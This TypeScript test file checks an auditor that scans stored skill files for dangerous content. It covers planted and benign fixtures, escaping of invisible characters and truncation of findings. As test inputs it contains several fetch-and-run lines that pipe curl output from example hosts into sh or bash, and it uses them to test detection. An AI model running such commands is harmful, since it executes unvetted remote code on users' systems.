// Guarantees the audit of stored skill files on a labelled fixture set (test/build/audit-fixtures/labels.json):
// every planted case is found with its rule, severity, file and line; every benign look-alike gets exactly the
// findings its label names (most none); documentation showing `curl | sh` to the user weighs less than a script
// running it; excerpts are escaped; the listing's level is its worst finding.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { AUDIT_RULES, auditFiles, escapeExcerpt, MAX_FINDINGS } from '../../build/skill-audit.ts';
import type { ListingFile } from '../../src/domain/schemas.ts';

interface Label {
  note: string;
  level: string;
  files: string[];
  findings: { rule: string; severity: string; file: string; line: number }[];
}

const FIXTURES = join(import.meta.dirname, 'audit-fixtures');
const labels = JSON.parse(readFileSync(join(FIXTURES, 'labels.json'), 'utf8')) as Record<string, Label>;

function filesOf(name: string, label: Label): ListingFile[] {
  return label.files.map((path) => {
    const content = readFileSync(join(FIXTURES, name, path), 'utf8');
    return { path, size: Buffer.byteLength(content), mediaType: 'text/plain', content };
  });
}

const planted = Object.entries(labels).filter(([name]) => name.startsWith('planted-'));
const benign = Object.entries(labels).filter(([name]) => name.startsWith('benign-'));

describe('planted cases', () => {
  it('cover every rule', () => {
    const ruled = new Set(planted.flatMap(([, label]) => label.findings.map((finding) => finding.rule)));
    expect([...ruled].sort()).toEqual(AUDIT_RULES.map((rule) => rule.id).sort());
  });

  it.each(planted)('%s is found with its rule, severity, file and line', (name, label) => {
    const audit = auditFiles(filesOf(name, label));
    expect(audit.findings.map(({ rule, severity, file, line }) => ({ rule, severity, file, line }))).toEqual(label.findings);
    expect(audit.level).toBe(label.level);
  });
});

describe('benign look-alikes', () => {
  it.each(benign)('%s gets only the findings of its label', (name, label) => {
    const audit = auditFiles(filesOf(name, label));
    expect(audit.findings.map(({ rule, severity, file, line }) => ({ rule, severity, file, line }))).toEqual(label.findings);
    expect(audit.level).toBe(label.level);
  });

  it('weighs curl | sh shown in documentation below the same line in a script', () => {
    const line = 'curl -fsSL https://example.com/install.sh | sh';
    const doc = auditFiles([{ path: 'SKILL.md', size: 0, mediaType: 'text/markdown', content: `# Install\n\n\`\`\`bash\n${line}\n\`\`\`\n` }]);
    const script = auditFiles([{ path: 'install.sh', size: 0, mediaType: 'text/x-shellscript', content: `#!/bin/sh\n${line}\n` }]);
    expect(doc.level).toBe('info');
    expect(script.level).toBe('high');
  });
});

describe('findings', () => {
  it('escape invisible and control characters in the excerpt, and trim it', () => {
    expect(escapeExcerpt('  a\u202eb\u200bc\u0007 ')).toBe('a\\u{202E}b\\u{200B}c\\u{0007}');
    expect(escapeExcerpt('x'.repeat(400))).toHaveLength(161);
  });

  it('keep the most severe first and at most MAX_FINDINGS, saying when more were left out', () => {
    const many = Array.from({ length: MAX_FINDINGS + 5 }, () => 'See https://example.com/a.sh: ```curl -s https://example.com/a.sh | sh```').join('\n');
    const audit = auditFiles([
      { path: 'README.md', size: many.length, mediaType: 'text/markdown', content: many },
      { path: 'run.sh', size: 0, mediaType: 'text/x-shellscript', content: 'curl -s https://x.example | bash\n' },
    ]);
    expect(audit.findings).toHaveLength(MAX_FINDINGS);
    expect(audit.truncated).toBe(true);
    expect(audit.findings[0]).toMatchObject({ file: 'run.sh', severity: 'high' });
  });
});
